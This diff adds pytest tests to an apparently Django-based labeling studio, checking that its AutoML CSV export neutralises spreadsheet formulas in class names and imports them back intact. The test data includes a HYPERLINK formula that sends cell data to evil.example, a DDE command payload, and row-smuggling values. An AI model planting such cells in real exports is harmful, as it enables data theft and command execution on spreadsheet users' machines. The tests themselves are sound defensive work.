@@ -3,10 +3,102 @@ name the user's file rather than a server path, the API docs only for logged-in 
 
 from __future__ import annotations
 
+import csv
+import io
+import zipfile
+
 import pytest
 from django.test import Client
 from rest_framework.authtoken.models import Token
 from rest_framework.test import APIClient
+
+from labeling import formats, ingest
+from labeling.categories import categories_ensure
+from labeling.dataset_import import dataset_import
+from labeling.formats import Box, Dataset, ImageRecord
+from labeling.formats.csv_cells import FORMULA_STARTS, neutralise, restore
+from labeling.models import Annotation, Category, Image, Membership, Project, Role
+from tests.labeling.imagefiles import image_bytes
+
+# --- CSV cells a spreadsheet would run ----------------------------------------------
+
+# Class names as an attacker (or an unlucky labeler) might pick them.
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB=1",
+    "\rCR=1",
+    "'=already quoted",
+    "''@twice",
+]
+PLAIN_NAMES = ["RBC", "it's fine", "'leading quote", "a=b", "x-ray"]
+# Names that would break a row apart if written unquoted (csv.reader ends a row at a CR).
+ROW_BREAKING_NAMES = [
+    "two\rTRAIN,images/0.png,injected,0,0,,,1,1,,",
+    "new\nline",
+    'say "hi"',
+    "a,b",
+]
+
+
+@pytest.mark.parametrize("name", [*FORMULA_NAMES, *PLAIN_NAMES, "", "'", "''"])
+def test_neutralised_cells_start_safely_and_restore(name):
+    cell = neutralise(name)
+    assert not cell.startswith(FORMULA_STARTS)
+    assert restore(cell) == name
+    if name in PLAIN_NAMES:
+        assert cell == name  # nothing to neutralise
+
+
+def _project_with_classes(user, names: list[str]) -> Project:
+    project = Project.objects.create(name="Formulas", created_by=user)
+    Membership.objects.create(project=project, user=user, role=Role.OWNER)
+    categories, _ = categories_ensure(project=project, names=names)
+    for i, name in enumerate(names):
+        data = image_bytes(size=(40, 30), color=(10 * i, 40, 40))
+        [result] = ingest.images_ingest(
+            project=project, sources=[ingest.Source(f"{i}.png", io.BytesIO(data))]
+        )
+        image = Image.objects.get(pk=result.image_id)
+        Annotation.objects.create(
+            image=image, category=categories[name], x=2, y=3, w=10, h=8, area=80
+        )
+        image.status = "labeled"
+        image.save(update_fields=["status"])
+    return project
+
+
+@pytest.mark.django_db
+def test_automl_csv_export_neutralises_formulas_and_imports_back(make_user, tmp_path):
+    user = make_user("exporter")
+    project = _project_with_classes(user, [*FORMULA_NAMES, *PLAIN_NAMES, *ROW_BREAKING_NAMES])
+    # As the studio keeps them (it strips the tab and the CR off the start).
+    names = list(Category.objects.filter(project=project).values_list("name", flat=True))
+    assert "=cmd|' /C calc'!A0" in names and "TAB=1" in names
+    client = APIClient()
+    client.force_authenticate(user)
+    response = client.get(f"/api/v1/projects/{project.pk}/export/automl-csv")
+    assert response.status_code == 200
+    archive = tmp_path / "export.zip"
+    archive.write_bytes(b"".join(response.streaming_content))
+    with zipfile.ZipFile(archive) as opened:
+        [csv_name] = [n for n in opened.namelist() if n.endswith(".csv")]
+        rows = list(csv.reader(io.StringIO(opened.read(csv_name).decode(), newline="")))
+    labels = [row[2] for row in rows]
+    assert sorted(restore(label) for label in labels) == sorted(names)
+    for row in rows:  # no text cell a spreadsheet would take for a formula
+        assert not any(cell.startswith(FORMULA_STARTS) for cell in row[:3]), row
+    # Imported into another project, the class names are the original ones.
+    other = Project.objects.create(name="Imported", created_by=user)
+    record = dataset_import(project=other, path=archive, format="automl-csv", user=user)
+    assert record.boxes_added == len(names)
+    assert sorted(Category.objects.filter(project=other).values_list("name", flat=True)) == sorted(
+        names
+    )
+
 
 # --- /api/v1/docs and /api/v1/schema ------------------------------------------------
 
@@ -45,3 +137,20 @@ def test_a_setting_makes_them_public(client, settings):
     assert client.get("/api/v1/docs").status_code == 200
     assert client.get("/api/v1/docs?script=").status_code == 200
     assert client.get("/api/v1/schema?format=json").json()["info"]["title"]
+
+
+def test_automl_csv_format_round_trip_keeps_every_name(tmp_path):
+    """The converter itself (also used outside the studio) keeps every name as given."""
+    picture = tmp_path / "a.png"
+    picture.write_bytes(image_bytes(size=(40, 30)))
+    names = sorted([*FORMULA_NAMES, *PLAIN_NAMES, *ROW_BREAKING_NAMES])
+    boxes = [Box(name, 1 + i, 2, 5, 4) for i, name in enumerate(names)]
+    dataset = Dataset(classes=names, images=[ImageRecord("a.png", picture, 40, 30, "train", boxes)])
+    formats.write(dataset, tmp_path / "out", "automl-csv")
+    with (tmp_path / "out" / "annotations.csv").open(newline="") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) == len(names)
+    assert all(not row[2].startswith(FORMULA_STARTS) for row in rows)
+    back = formats.read(tmp_path / "out", "automl-csv")
+    assert back.classes == names
+    assert sorted(box.label for box in back.images[0].boxes) == names
